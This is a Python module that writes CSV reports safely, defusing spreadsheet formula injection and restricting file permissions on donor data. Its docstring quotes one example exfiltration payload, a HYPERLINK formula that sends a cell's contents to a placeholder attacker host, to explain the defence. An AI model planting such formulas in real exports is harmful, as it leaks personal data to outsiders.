"""Every CSV file synctool writes (each command's ``--csv``) goes through ``write_csv``, so each one is safe to
open in a spreadsheet and readable by synctool's user alone (invariant 10).

A cell holds what a platform, a form or a donor typed: a donor named ``=HYPERLINK("http://evil.example/?d="&A1,
"Click")`` is a formula to Excel, LibreOffice and Google Sheets. Every text cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written with a leading ``'`` (OWASP's rule for CSV injection), which a
spreadsheet shows as text; the rest of the text is kept as it was. Numbers (``int``, ``float``, ``Decimal``) are
written as they are: a number is no formula, and a refund's ``-25.00`` stays a number a bookkeeper can add up.
The reports keep amounts as text (``"25.00"``); the columns named in ``numbers`` are written as numbers when
their text is a plain decimal number, and neutralised like any other text when it is not.

The file holds donor data: it is created 0600, and a file already there is made 0600 before anything is
written to it.
"""

from __future__ import annotations

import csv
import os
import re
from collections.abc import Collection, Iterable, Mapping
from decimal import Decimal
from pathlib import Path
from typing import Any

from synctool.errors import InvalidInput

#: what a spreadsheet reads as the start of a formula (OWASP: CSV injection)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: an amount kept as text that may be written as a number
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: numbers and None as they are, text neutralised."""
    if value is None or isinstance(value, (int, float, Decimal)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(path: str | Path, fields: list[str], rows: Iterable[Mapping[str, Any]], *, numbers: Collection[str] = ()) -> None:
    """Write ``rows`` under a header of ``fields`` (``csv.DictWriter``; keys not in ``fields`` are left out) to
    ``path``, mode 0600. ``numbers``: the columns whose text is an amount."""
    target = Path(path)
    if target.is_dir():
        raise InvalidInput(f"{target} is a directory", "give the path of a file to write, e.g. report.csv")
    try:
        fd = os.open(target, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    except OSError as exc:
        raise InvalidInput(f"cannot write {target}: {exc.strerror or exc}") from None
    try:
        os.fchmod(fd, 0o600)  # the file may have been there already, readable by others
        out = os.fdopen(fd, "w", newline="", encoding="utf-8")
    except BaseException:
        os.close(fd)
        raise
    with out:
        writer = csv.DictWriter(out, fieldnames=fields, extrasaction="ignore")
        writer.writeheader()
        for row in rows:
            writer.writerow({k: cell(_number(v) if k in numbers else v) for k, v in row.items() if k in fields})


def _number(value: Any) -> Any:
    if isinstance(value, str) and PLAIN_NUMBER.fullmatch(value):
        return Decimal(value)
    return value
